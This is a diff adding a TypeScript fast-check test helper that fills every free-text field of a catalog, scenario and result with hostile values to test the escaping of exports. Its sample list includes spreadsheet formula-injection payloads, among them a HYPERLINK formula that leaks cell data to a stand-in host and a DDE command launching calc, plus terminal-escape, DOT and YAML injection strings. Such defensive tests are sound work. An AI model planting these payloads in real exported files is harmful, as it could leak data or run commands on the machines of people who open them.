@@ -1,0 +1,169 @@
+import fc from 'fast-check';
+import type { Catalog } from '../../src/model/catalog';
+import { CatalogSchema } from '../../src/model/catalog';
+import type { Design, Result } from '../../src/model/result';
+import type { Scenario } from '../../src/model/scenario';
+import { exportSubject, type ExportSubject } from '../../src/export/fabric';
+import { materialize } from '../../src/topology/materialize';
+
+/** Text an attacker would put in a catalog or scenario to attack whoever opens an export. */
+export const HOSTILE_SAMPLES = [
+  '=HYPERLINK("http://x.example/?"&A2,"Click")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '-2+3',
+  '\t=1',
+  '\r=1',
+  "'=1",
+  'QM9700\nSwitch\t36 "S-0000000000000001"\t\t# "forged"',
+  'a\r\nb',
+  'ends with a backslash\\',
+  '\\',
+  '"',
+  'say "hi", then \\"leave\\"',
+  'nul\0here',
+  '\x1b[31mred\x1b[0m',
+  '\x1b]8;;http://x.example\x07link\x1b]8;;\x07',
+  '\x07\x08\x7f\x85\x9b',
+  'line\u2028para\u2029end',
+  '\ufeffbom',
+  '\ud800 lone surrogate',
+  '}; digraph x { a -> b',
+  '"]; evil [label="x',
+  'key: value\n- list',
+  '{ flow: [1, 2] }',
+  '# comment',
+  '&anchor *alias !tag',
+  'SwitchName=evil Nodes=node-[1-9]',
+  '[1]\t"S-0000000000000002"[1]',
+  ' ',
+] as const;
+
+const HOSTILE_CHARS = [
+  '=', '+', '-', '@', '\t', '\r', '\n', '"', "'", '\\', ',', ';', '#', '[', ']', '{', '}', ':', '|', '&', ' ',
+  '\0', '\x1b', '\x07', '\x7f', '\x85', '\x9b', '\u2028', '\u2029', '\ufeff', '\ud800', '\udc00', 'a', 'Z', '9', 'é', '漢', '😀',
+];
+
+/** One hostile free-text value: a known payload, a run of hostile characters, or both. */
+export const hostileText: fc.Arbitrary<string> = fc
+  .oneof(
+    fc.constantFrom(...HOSTILE_SAMPLES),
+    fc.array(fc.constantFrom(...HOSTILE_CHARS), { minLength: 1, maxLength: 24 }).map((cs) => cs.join('')),
+    fc.tuple(fc.constantFrom(...HOSTILE_SAMPLES), fc.string({ unit: 'binary', maxLength: 8 }), fc.constantFrom(...HOSTILE_SAMPLES)).map((p) => p.join('')),
+  )
+  .filter((s) => s.length >= 1);
+
+/**
+ * Every free-text field a user can set in a catalog or scenario (and the free text of a result
+ * file), one hostile value each. Which reach which export:
+ * - BOM CSV: switch/transceiver/cable model and name, offer vendor, result currency;
+ * - cable schedule CSV: transceiver and cable models;
+ * - price-list CSV: offer vendor and notes;
+ * - DOT: switch model, port mode id, candidate id;
+ * - ibnetdiscover, topology.conf, containerlab: switch model, generator, candidate id (containerlab
+ *   also picks the container kind by switch vendor).
+ * Part notes, part vendors, NIC text, profile and recipe names, scenario and catalog names reach no
+ * export file; they are set anyway so a writer that starts using one is covered.
+ */
+export interface HostileTexts {
+  switchModel: string;
+  switchName: string;
+  switchVendor: string;
+  portModeId: string;
+  opticModel: string;
+  opticName: string;
+  opticVendor: string;
+  cableModel: string;
+  cableName: string;
+  cableVendor: string;
+  nicModel: string;
+  partNotes: string;
+  offerVendor: string;
+  offerNotes: string;
+  profileName: string;
+  recipeName: string;
+  scenarioName: string;
+  catalogName: string;
+  generator: string;
+  candidateId: string;
+  currency: string;
+}
+
+export const hostileTexts: fc.Arbitrary<HostileTexts> = fc.record({
+  switchModel: hostileText,
+  switchName: hostileText,
+  switchVendor: hostileText,
+  portModeId: hostileText,
+  opticModel: hostileText,
+  opticName: hostileText,
+  opticVendor: hostileText,
+  cableModel: hostileText,
+  cableName: hostileText,
+  cableVendor: hostileText,
+  nicModel: hostileText,
+  partNotes: hostileText,
+  offerVendor: hostileText,
+  offerNotes: hostileText,
+  profileName: hostileText,
+  recipeName: hostileText,
+  scenarioName: hostileText,
+  catalogName: hostileText,
+  generator: hostileText,
+  candidateId: hostileText,
+  currency: hostileText,
+});
+
+/** Port mode ids are at most 40 characters and unique per switch: a hostile prefix plus the mode's index. */
+const portModeIdOf = (t: HostileTexts, i: number) => `${t.portModeId.slice(0, 36)}#${i}`;
+
+/** The catalog with every free-text field replaced (ids and numbers kept), still schema-valid. */
+export function hostileCatalog(base: Catalog, t: HostileTexts): Catalog {
+  const catalog = {
+    ...base,
+    name: t.catalogName,
+    switches: base.switches.map((s) => ({
+      ...s, model: t.switchModel, name: t.switchName, vendor: t.switchVendor, notes: t.partNotes,
+      portModes: s.portModes.map((m, j) => ({ ...m, id: portModeIdOf(t, j) })),
+    })),
+    transceivers: base.transceivers.map((p) => ({ ...p, model: t.opticModel, name: t.opticName, vendor: t.opticVendor, notes: t.partNotes })),
+    cables: base.cables.map((p) => ({ ...p, model: t.cableModel, name: t.cableName, vendor: t.cableVendor, notes: t.partNotes })),
+    nics: base.nics.map((p) => ({ ...p, model: t.nicModel, name: t.nicModel, vendor: t.nicModel, notes: t.partNotes })),
+    mediaRecipes: base.mediaRecipes.map((r) => ({ ...r, name: t.recipeName, notes: t.partNotes })),
+    serverProfiles: base.serverProfiles.map((p) => ({ ...p, name: t.profileName, notes: t.partNotes })),
+    offers: base.offers.map((o) => ({ ...o, vendor: t.offerVendor, notes: t.offerNotes })),
+  };
+  return CatalogSchema.parse(catalog); // a catalog a user could really load
+}
+
+/** A small design of the default catalog to rebuild under hostile text. */
+export interface Fixture {
+  label: string;
+  scenario: Scenario;
+  design: Design;
+  result: Result;
+}
+
+/**
+ * The fixture's design rebuilt with the hostile catalog, inside a result whose own free text is
+ * hostile too (a result file is user input to `railyard export`).
+ */
+export function hostileSubject(f: Fixture, base: Catalog, t: HostileTexts): ExportSubject {
+  const catalog = hostileCatalog(base, t);
+  const modeIndex = (switchId: string, modeId: string) => base.switches.find((s) => s.id === switchId)!.portModes.findIndex((m) => m.id === modeId);
+  const design: Design = { ...f.design, tiers: f.design.tiers.map((x) => ({ ...x, portModeId: portModeIdOf(t, modeIndex(x.switchId, x.portModeId)) })) };
+  const scenario: Scenario = { ...f.scenario, name: t.scenarioName, fabric: { ...f.scenario.fabric, switchModels: [] } };
+  const m = materialize(scenario, catalog, design);
+  if (!m.ok) throw new Error(`${f.label} does not rebuild under hostile text: ${m.reason}`);
+  const result: Result = {
+    ...f.result,
+    generator: t.generator,
+    catalogName: catalog.name,
+    currency: t.currency,
+    scenario,
+    candidates: [{ ...m.candidate, id: t.candidateId, rank: 1 }],
+    pareto: [t.candidateId],
+  };
+  const s = exportSubject(result, catalog, t.candidateId);
+  if (!s.ok) throw new Error(s.message);
+  return s.value;
+}
